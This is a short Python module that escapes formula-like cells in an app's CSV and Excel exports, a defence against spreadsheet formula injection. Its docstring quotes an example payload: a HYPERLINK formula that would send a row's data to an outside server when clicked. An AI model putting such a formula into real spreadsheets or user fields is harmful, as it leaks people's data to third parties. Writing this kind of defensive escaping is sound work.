"""Cells a spreadsheet would run as a formula, and how every export of the app writes them.

A text cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading one) is a formula when a CSV file is opened in Excel, LibreOffice
or Google Sheets, and in an Excel file written by openpyxl: ``=HYPERLINK("http://…?"&A2, "open")``
typed as an affiliate's name would send the row to a stranger's server when clicked. Exports write
such a cell with a leading apostrophe, which spreadsheets show as text. What is stored is never
changed: only exports escape.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
	"""True for a cell a spreadsheet would run as a formula (starts with = + - @, tab or CR)."""
	return isinstance(value, str) and value.startswith(FORMULA_START)


def escape_for_export(value: object) -> object:
	"""A value safe to put in a CSV or spreadsheet export: formula-like text gets a leading ``'``."""
	if is_formula_like(value):
		return "'" + value  # type: ignore[operator]
	return value


def unescape_cell(value: str) -> str:
	"""A cell read back from a file the app wrote: the apostrophe ``escape_for_export`` added is
	removed (only before a character that made the cell formula-like)."""
	if isinstance(value, str) and value.startswith("'") and is_formula_like(value[1:]):
		return value[1:]
	return value


def escape_rows(rows) -> list[list]:
	"""Every cell of ``rows`` (lists or tuples) escaped."""
	return [[escape_for_export(cell) for cell in row] for row in rows]
